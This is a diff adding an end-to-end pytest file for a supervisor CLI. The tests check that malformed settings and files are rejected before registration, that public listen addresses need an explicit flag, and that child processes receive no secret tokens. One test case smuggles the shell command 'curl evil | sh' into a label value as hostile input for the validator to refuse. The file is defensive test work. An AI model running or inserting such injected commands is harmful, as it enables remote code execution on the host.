@@ -1,0 +1,233 @@
+"""Issue 13, items 3, 4 and 7 end to end: ``cuzk-supervisor run`` as a real process against the
+simulated manager (and, where it gets that far, the simulated daemon).
+
+A bad value or input file is refused before ``/register``: exit 2, one line naming the setting
+or file, no traceback, the manager asked nothing, no folder made, no child started. A public
+daemon address is taken only with ``allow_public_listen`` (and then with a warning). The
+daemon, the params fetch and the worker commands get no secret in their environment.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import shlex
+import signal
+import subprocess
+import sys
+from collections.abc import Generator, Mapping
+from pathlib import Path
+
+import psutil
+import pytest
+from daemonhelpers import processes_mentioning
+from lifecyclehelpers import fetch_command, lifecycle_env, start_run
+from managerhelpers import ManagerProcess
+from simhelpers import free_tcp_port, poll_until
+
+from supervisor import exitcodes, settings
+
+PHASE1 = "eyJhIjogMX0="  # base64 of {"a": 1}
+
+
+@pytest.fixture(scope="module")
+def shared_manager(tmp_path_factory: pytest.TempPathFactory) -> Generator[ManagerProcess]:
+    """One simulated manager for every refused run: none of them may reach it."""
+    mgr = ManagerProcess.start(tmp_path_factory.mktemp("mgr") / "manager.db")
+    yield mgr
+    mgr.kill()
+
+
+def _base_env() -> dict[str | bytes, str | bytes]:
+    return {
+        k: v
+        for k, v in os.environ.items()
+        if not k.startswith((settings.ENV_PREFIX, "VAST_", "MIN_RATE", "CUZK_SIM_"))
+    }
+
+
+def _run(env: Mapping[str | bytes, str | bytes]) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "supervisor", "run"],
+        env=env, capture_output=True, text=True, errors="replace", timeout=60, check=False,
+    )  # fmt: skip
+
+
+def _c1(tmp_path: Path, content: bytes | None = None, *, sparse: int = 0) -> Path:
+    path = tmp_path / "bad-c1.json"
+    if sparse:
+        with open(path, "wb") as handle:
+            handle.truncate(sparse)
+    else:
+        path.write_bytes(content or b"")
+    return path
+
+
+def _file(tmp_path: Path, name: str, content: bytes) -> Path:
+    path = tmp_path / name
+    path.write_bytes(content)
+    return path
+
+
+# name -> (extra environment built from tmp_path, the fragment the one error line names)
+REFUSED = {
+    "label with newline and shell metacharacters": (
+        lambda t: {"CUZK_SUPERVISOR_LABEL": "C.1\n; curl evil | sh"},
+        "setting label",
+    ),
+    "label not UTF-8": (lambda t: {b"CUZK_SUPERVISOR_LABEL": b"C.\xff"}, "setting label"),
+    "token of 100 KB": (
+        lambda t: {"CUZK_SUPERVISOR_MANAGER_TOKEN": "t" * 100_000},
+        "setting manager_token",
+    ),
+    "state folder not UTF-8": (
+        lambda t: {b"CUZK_SUPERVISOR_STATE_DIR": str(t).encode() + b"/\xfe"},
+        "setting state_dir",
+    ),
+    "bench_count 10^18": (
+        lambda t: {"CUZK_SUPERVISOR_BENCH_COUNT": "1000000000000000000"},
+        "setting bench_count",
+    ),
+    "interval NaN": (lambda t: {"CUZK_SUPERVISOR_STATUS_INTERVAL_S": "nan"}, "status_interval"),
+    "manager URL with a bad port": (
+        lambda t: {"CUZK_SUPERVISOR_MANAGER_URL": "http://127.0.0.1:99999/"},
+        "setting manager_url",
+    ),
+    "platform label with a newline": (
+        lambda t: {"CUZK_SUPERVISOR_LABEL": "", "VAST_CONTAINERLABEL": "C.1\nx"},
+        "env VAST_CONTAINERLABEL",
+    ),
+    "settings file not UTF-8": (
+        lambda t: {"CUZK_SUPERVISOR_CONFIG_FILE": str(_file(t, "s.toml", b"label='\xff'"))},
+        "not UTF-8",
+    ),
+    "daemon base config not TOML": (
+        lambda t: {"CUZK_SUPERVISOR_DAEMON_BASE_CONFIG": str(_file(t, "b.toml", b"[x\n"))},
+        "daemon base config",
+    ),
+    "daemon base config not UTF-8": (
+        lambda t: {"CUZK_SUPERVISOR_DAEMON_BASE_CONFIG": str(_file(t, "b.toml", b"a='\xff'"))},
+        "daemon base config",
+    ),
+    "C1 empty": (lambda t: {"CUZK_SUPERVISOR_C1_FILE": str(_c1(t, b""))}, "is empty"),
+    "C1 not JSON": (lambda t: {"CUZK_SUPERVISOR_C1_FILE": str(_c1(t, b"PK\x03\x04"))}, "JSON"),
+    "C1 of the wrong shape": (
+        lambda t: {"CUZK_SUPERVISOR_C1_FILE": str(_c1(t, json.dumps({"Phase1": 1}).encode()))},
+        "has no Phase1Out",
+    ),
+    "C1 a 2 GiB sparse file": (
+        lambda t: {"CUZK_SUPERVISOR_C1_FILE": str(_c1(t, sparse=2 << 30))},
+        "at most 128 MiB",
+    ),
+    "C1 missing": (
+        lambda t: {"CUZK_SUPERVISOR_C1_FILE": str(t / "absent.json")},
+        "cannot read C1 file",
+    ),
+    "daemon listen public": (
+        lambda t: {"CUZK_SUPERVISOR_DAEMON_LISTEN": f"0.0.0.0:{free_tcp_port()}"},
+        "allow_public_listen",
+    ),
+    "daemon status listen public": (
+        lambda t: {"CUZK_SUPERVISOR_DAEMON_STATUS_LISTEN": f"0.0.0.0:{free_tcp_port()}"},
+        "allow_public_listen",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", REFUSED)
+def test_a_bad_input_exits_2_before_register(
+    case: str, tmp_path: Path, shared_manager: ManagerProcess
+) -> None:
+    build, fragment = REFUSED[case]
+    before = len(shared_manager.requests())
+    extra = build(tmp_path)
+    env = {**_base_env(), **lifecycle_env(tmp_path, shared_manager.url)}
+    for key in extra:  # a bytes name replaces its text twin (else the first one wins)
+        env.pop(key.decode() if isinstance(key, bytes) else key, None)
+    env.update(extra)
+    try:
+        done = _run(env)
+    finally:  # a run that went ahead by mistake must not leave its daemon behind
+        for proc in processes_mentioning(str(tmp_path)):
+            with contextlib.suppress(psutil.Error):
+                proc.kill()
+    assert done.returncode == exitcodes.USAGE, done.stderr[-2000:]
+    assert done.stderr.count("\n") == 1, done.stderr[-2000:]
+    assert fragment in done.stderr
+    assert "Traceback" not in done.stderr
+    assert len(done.stderr) < 600
+    # Nothing registered (nor asked), nothing written, nothing started.
+    assert shared_manager.requests(since=before) == []
+    assert shared_manager.requests(path="/register") == []
+    for folder in ("state", "run", "log", "params"):
+        assert not (tmp_path / folder).exists(), folder
+    assert not (tmp_path / "fetch-runs").exists()
+    assert processes_mentioning(str(tmp_path)) == []
+
+
+def _environ_of(pid: int) -> dict[str, str]:
+    raw = Path(f"/proc/{pid}/environ").read_bytes()
+    pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
+    return {k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}
+
+
+def _env_file(path: Path) -> dict[str, str]:
+    lines = path.read_text(errors="replace").splitlines()
+    return dict(line.split("=", 1) for line in lines if "=" in line)
+
+
+SECRET = "s3cret-manager-token-value"
+OTHER_SECRET = "s3cret-other-token-value"
+
+
+def test_public_daemon_listen_when_allowed_and_children_get_no_secret(
+    tmp_path: Path, manager
+) -> None:
+    """allow_public_listen: the daemon listens on 0.0.0.0 with a warning logged; the daemon's
+    /proc/PID/environ, the fetch command's and a worker command's environment hold neither
+    the manager token nor any other *_TOKEN, but keep the rest of the environment."""
+    mgr = manager()
+    fetch_env = tmp_path / "fetch.env"
+    worker_env = tmp_path / "worker.env"
+    port = free_tcp_port("0.0.0.0")
+    env = lifecycle_env(
+        tmp_path,
+        mgr.url,
+        bench_count=4,
+        daemon_listen=f"0.0.0.0:{port}",
+        allow_public_listen="true",
+        manager_token=SECRET,
+        params_fetch_command=f"env > {fetch_env} && {fetch_command(tmp_path)}",
+        worker_commands=shlex.quote(f"env > {worker_env}.tmp && mv {worker_env}.tmp "
+                                    f"{worker_env} && exec sleep 300"),
+    )  # fmt: skip
+    env["UPLOAD_API_TOKEN"] = OTHER_SECRET
+    env["CUZK_E2E_KEPT"] = "kept"
+    run = start_run(env)
+    try:
+        poll_until(lambda: worker_env.exists() or run.proc.poll() is not None, 90, what="worker")
+        assert run.proc.poll() is None, run.describe()
+        warning = run.wait_event("settings.public_listen")
+        assert "daemon_listen" in warning["detail"]
+        assert run.named("manager.registered")  # the run went ahead
+        pid = int(run.named("daemon.spawned")[-1]["pid"])
+        children = {
+            "daemon": _environ_of(pid),
+            "fetch": _env_file(fetch_env),
+            "worker": _env_file(worker_env),
+        }
+        for who, child in children.items():
+            assert child.get("CUZK_E2E_KEPT") == "kept", who  # the rest is passed on
+            leaked = [k for k, v in child.items() if k.endswith("_TOKEN") or SECRET in v]
+            assert leaked == [], who
+            assert not any(OTHER_SECRET in v for v in child.values()), who
+        assert "CUZK_SUPERVISOR_MANAGER_TOKEN" not in children["daemon"]
+        # ... while the supervisor itself still has it (it sends it to the manager).
+        assert SECRET in Path(f"/proc/{run.proc.pid}/environ").read_text(errors="replace")
+    finally:
+        run.signal(signal.SIGTERM)
+        try:
+            run.proc.wait(30)
+        finally:
+            run.kill()
